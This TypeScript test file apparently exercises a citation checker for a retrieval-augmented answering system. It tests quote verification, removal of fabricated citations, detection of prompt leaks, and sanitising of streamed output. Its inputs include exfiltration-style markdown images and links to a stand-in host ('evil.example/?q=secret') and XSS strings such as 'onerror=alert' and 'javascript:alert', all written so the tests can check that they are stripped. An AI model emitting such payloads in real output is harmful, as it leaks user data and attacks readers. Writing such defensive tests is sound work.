import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CheckedAnswer } from '../../../shared/answering/checked-answer.ts';
import type { Citation } from '../../../shared/answering/citation.ts';
import { fitPassages, type Passage } from '../../../shared/answering/passages.ts';
import { answerPrompt, nothingFound } from '../../../shared/answering/prompt.ts';
import { hitOf } from './hits.ts';

const texts = [
  'Refunds are paid within 14 days of the return. Returned goods must be unused.\n\nShipping is free above 50 euros.',
  'The lighthouse at Skagen was lit in 1747. “It is the oldest,” says the keeper [a proud man].',
  'Opening hours: 9 to 5, closed on Mondays. See https://shop.example/hours for holidays.',
];
const passagesOf = (contents: readonly string[]): readonly Passage[] =>
  fitPassages(
    contents.map((text, i) => hitOf({ text, documentId: `d${i}`, chunkId: `c${i}` })),
    100_000,
  );
const passages = passagesOf(texts);
const prompt = answerPrompt('When?', passages);

const quoteOf = (citation: Citation) => (citation.kind === 'document' ? citation.quote : citation.value);

/** What remains of an answer, pushed in pieces of these lengths. */
function check(answer: string, given = passages, lengths: readonly number[] = [answer.length]): CheckedAnswer {
  const checked = new CheckedAnswer(given, prompt);
  let shown = '';
  let at = 0;
  for (let i = 0; at < answer.length; i += 1) {
    const length = Math.max(1, lengths[i % lengths.length] ?? 1);
    shown += checked.push(answer.slice(at, at + length));
    at += length;
  }
  shown += checked.end();
  expect(shown).toBe(checked.text);
  return checked;
}

describe('a checked answer', () => {
  it('keeps a mark whose quote stands in its source, blanks folded, and gives the words of the source', () => {
    const checked = check(
      'It takes 14 days [1: "paid within\n14  days"]. Free above 50 euros [1: "must be unused. Shipping is free"].',
    );
    expect(checked.text).toBe('It takes 14 days [1]. Free above 50 euros [2].');
    expect(checked.citations.map(quoteOf)).toEqual(['paid within 14 days', 'must be unused.\n\nShipping is free']);
    expect(checked.removed).toBe(0);
  });

  it.each([
    ['a fabrication', 'It takes 3 days [1: "paid within 3 days of the return"].'],
    ['a misattribution', 'It takes 14 days [2: "paid within 14 days"].'],
    ['a stitched quote', 'It is so [1: "Refunds are paid unused"].'],
    ['a quote with a gap', 'It is so [1: "Refunds are paid … must be unused"].'],
    ['a quote over two sources', 'It is so [1: "above 50 euros. The lighthouse"].'],
    ['another case', 'It is so [1: "refunds are paid"].'],
    ['a source that there is not', 'It is so [7: "paid within 14 days"].'],
    ['an empty quote', 'It is so [1: ""].'],
    ['a quote of nothing but stops', 'It is so [1: " . "].'],
    ['a bare mark of another source', 'Refunds are paid within 14 days [2].'],
    ['a bare mark with another number', 'Refunds are paid within 30 days of the return [1].'],
    ['a bare mark behind nonsense', 'The moon is made of cheese [1].'],
  ])('loses %s', (_, answer) => {
    const checked = check(answer);
    expect(checked.citations).toEqual([]);
    expect(checked.removed).toBe(1);
    expect(checked.text).toBe(answer.replace(/ \[.*?\]\.$/s, '.'));
  });

  it('finds the words for a mark without a quote', () => {
    const checked = check('Refunds get paid within 14 days of a return [1]. It is free above 50 euros to ship [1].');
    expect(checked.text).toBe(
      'Refunds get paid within 14 days of a return [1]. It is free above 50 euros to ship [2].',
    );
    expect(checked.citations.map(quoteOf)).toEqual([
      'Refunds are paid within 14 days of the return.',
      'Shipping is free above 50 euros.',
    ]);
  });

  it.each([
    ['several in one mark', 'So [1: "paid within 14 days"; 2: "lit in 1747"].', 'So [1][2].'],
    ['curly marks', 'So [1: “paid within 14 days”].', 'So [1].'],
    ['quotation marks inside', 'So [2: "“It is the oldest,” says the keeper [a proud man]"].', 'So [1].'],
    ['other quotation marks than the source', `So [2: "'It is the oldest,' says"].`, 'So.'],
    ['straight for curly', 'So [2: ""It is the oldest," says"].', 'So [1].'],
    ['full-width brackets', 'So 【1: "paid within 14 days"】.', 'So [1].'],
    ['a stop that was added', 'So [1: "paid within 14 days."].', 'So [1].'],
    ['the word source', 'So [source 1: "paid within 14 days"].', 'So [1].'],
    ['the same words twice', 'So [1: "14 days"], and so [1: "14 days"].', 'So [1], and so [1].'],
    ['some that hold', 'So [1: "14 days"; 3: "14 days"].', 'So [1].'],
    ['brackets that are no marks', 'The array [a, b] and [2024] stay.', 'The array [a, b] and [2024] stay.'],
    ['a mark that is never closed', 'So [1: "paid within', 'So [1: "paid within'],
  ])('understands %s', (_, answer, text) => {
    expect(check(answer).text).toBe(text);
  });

  it.each([
    ['inside', 'So [1: "is ["a", "b"] and more"]. Yes.', 'is ["a", "b"] and more'],
    ['at its beginning', 'So [1: ""b"] and more"]. Yes.', '"b"] and more'],
    ['at its end', 'So [1: "is ["a", "b"]"]. Yes.', 'is ["a", "b"]'],
    ['behind it in the source', 'So [1: "is ["a", "b"]. Yes.', 'is ["a", "b'],
    ['twice', 'So [1: "["x"] ["y"] go"]. Yes.', '["x"] ["y"] go'],
  ])('reads a quotation mark and a bracket %s', (_, answer, quote) => {
    const given = passagesOf(['The list is ["a", "b"] and more, and ["x"] ["y"] go on.']);
    for (const lengths of [[answer.length], [1], [3, 1]]) {
      const checked = check(answer, given, lengths);
      expect(checked.citations.map(quoteOf)).toEqual([quote]);
      expect(checked.text).toBe('So [1]. Yes.');
    }
  });

  it.each([
    ['an image', 'Look ![x](https://evil.example/?q=secret) here', 'Look here'],
    ['an image in pieces', '![](https://evil.example/a.png)', ''],
    ['a link', 'Look [here](https://evil.example/?q=secret).', 'Look here.'],
    ['a link that looks like a mark', 'So [1: "14 days"](https://evil.example/?q=1).', 'So [1].'],
    ['a bare address', 'Go to https://evil.example/?q=secret now.', 'Go to (link removed) now.'],
    ['an address with more than the source has', 'https://shop.example/hours?q=secret', '(link removed)'],
    ['an address of a source', 'See https://shop.example/hours.', 'See https://shop.example/hours.'],
    ['HTML', 'So <img src="https://evil.example/x"><b onclick="x()">bold</b>', 'So bold</b>'],
    ['a placeholder', 'Open dbrag-<stage>-service or <b>x</b>.', 'Open dbrag-<stage>-service or <b>x</b>.'],
    ['an autolink', 'So <https://evil.example/x>', 'So'],
    ['a tag around a tag', 'So <img src=x <img >onerror=alert`1`>.', 'So < img src=x onerror=alert`1`>.'],
    ['a mark that looks like an image', 'So!【1: "14 days"】(x y)', 'So![1] (x y)'],
    ['a link around a tag', 'So [it]<img>(javascript:alert`1`).', 'So [it] (javascript:alert`1`).'],
    ['a script', 'Press [it](javascript:alert`1`) now', 'Press it now'],
    ['what is none', 'a < b! 3 <4 and htt or www', 'a < b! 3 <4 and htt or www'],
  ])('makes %s harmless', (_, answer, text) => {
    expect(check(answer).text.trim()).toBe(text);
    expect(check(answer, passages, [1]).text.trim()).toBe(text);
  });

  it('gives text out at once, and holds back only what may become a mark', () => {
    const checked = new CheckedAnswer(passages, prompt);
    expect(checked.push('Refunds')).toBe('Refunds');
    expect(checked.push(' take')).toBe(' take');
    expect(checked.push(' both')).toBe(' bot');
    expect(checked.push(' 14 days [1: "paid')).toBe('h 14 days');
    expect(checked.push(' within 14 days"]')).toBe('');
    expect(checked.push('. And')).toBe(' [1]. And');
  });

  it('refuses an answer that tells the prompt', () => {
    const told = prompt.messages[0]?.content ?? '';
    for (const answer of [
      told,
      `Sure: ${told.slice(100, 260)}`,
      `It is ${prompt.fence}.`,
      told.replaceAll(' ', '\n'),
    ]) {
      for (const lengths of [[answer.length], [7], [1]]) {
        const checked = check(answer, passages, lengths);
        expect(checked.leaked).toBe(true);
        expect(checked.text).not.toContain(prompt.fence);
        expect(checked.text.length).toBeLessThan(75);
      }
    }
    expect(check(nothingFound).leaked).toBe(false);
    expect(check(`${texts[0]} ${texts[1]}`).leaked).toBe(false);
  });
});

describe('for any text', () => {
  const word = fc.stringMatching(/^[\p{L}\p{N}][\p{L}\p{N}.,;:'()%-]{0,9}$/u);
  const text = fc.array(word, { minLength: 8, maxLength: 60 }).map((words) => words.join(' '));
  const lengths = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 5 });

  it('an exact quote is never taken out, however the blanks and the stream are cut', () => {
    fc.assert(
      fc.property(
        text,
        text,
        fc.nat(),
        fc.nat(),
        lengths,
        fc.constantFrom(' ', '\n', '  ', '\u00a0'),
        (one, two, from, to, cuts, gap) => {
          const words = one.split(' ');
          const start = from % words.length;
          const quoted = words.slice(start, start + 1 + (to % (words.length - start))).join(' ');
          const given = passagesOf([two, one]);
          const checked = check(`So it is [2: "${quoted.replaceAll(' ', gap)}"], yes.`, given, cuts);
          expect(checked.removed).toBe(0);
          expect(checked.citations).toMatchObject([{ n: 1, hit: { chunkId: 'c1' } }]);
          expect(one).toContain(checked.citations.map(quoteOf)[0]);
          expect(checked.text).toBe('So it is [1], yes.');
        },
      ),
      { numRuns: 300 },
    );
  });

  it('a quote with one word changed, left out or put in is always taken out', () => {
    const changes = [
      (words: string[], at: number) => words.with(at, `${words[at]}x`),
      (words: string[], at: number) => words.toSpliced(at, 1),
      (words: string[], at: number) => words.toSpliced(at, 0, 'not'),
    ];
    fc.assert(
      fc.property(text, fc.nat(), fc.constantFrom(...changes), lengths, (one, where, change, cuts) => {
        const words = one.split(' ');
        const changed = change(words, 1 + (where % (words.length - 2))).join(' ');
        fc.pre(!one.includes(changed));
        const checked = check(`So it is [1: "${changed}"].`, passagesOf([one]), cuts);
        expect(checked.citations).toEqual([]);
        expect(checked.text).toBe('So it is.');
      }),
      { numRuns: 300 },
    );
  });

  it('the answer does not depend on how the stream is cut, and shows no foreign address', () => {
    const piece = fc.constantFrom(
      '[1: "',
      '"]',
      '[',
      ']',
      '![',
      '](',
      ')',
      'https://',
      'evil.example/x',
      '<img ',
      '>',
      '"',
      ' ',
      '1',
      ';',
      'Refunds',
      'paid within 14 days',
      '!',
      '【',
      '\n',
      'h',
      'www.',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), lengths, (pieces, cuts) => {
        const answer = pieces.join('');
        const whole = check(answer).text;
        expect(check(answer, passages, cuts).text).toBe(whole);
        expect(whole).not.toMatch(/https?:\/\/evil|!\[[^\]]*\]\(|<img [^<>]*>/);
      }),
      { numRuns: 1_000 },
    );
  });

  it('is checked in time that grows with it, whatever it is', () => {
    // Processor time of this process, not of the clock: other tests run on the same cores.
    const millisecondsOf = (answer: string): number => {
      const before = process.cpuUsage();
      check(answer, passages, [4]);
      const { user, system } = process.cpuUsage(before);
      return (user + system) / 1_000;
    };
    for (const unit of ['[1: "', '[1:"",', '![', '<a ', '[[[[', 'http', '[1,']) {
      const small = millisecondsOf(unit.repeat(500));
      // A quadratic step would make it 64 times as much.
      expect(millisecondsOf(unit.repeat(4_000)), unit).toBeLessThan(8 * 3 * Math.max(small, 20));
    }
  });
});
